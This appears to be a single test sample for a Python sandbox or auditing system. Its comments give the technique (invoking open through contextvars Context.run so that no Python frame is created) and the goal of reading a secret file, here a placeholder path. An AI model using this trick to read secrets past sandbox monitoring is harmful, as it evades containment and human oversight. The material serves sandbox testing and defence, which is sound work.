# technique: Context.run calls a C function with no frame of its own
# goal: read-secret
# source: own analysis
import contextvars
print(contextvars.copy_context().run(open, '@SECRET@').read())
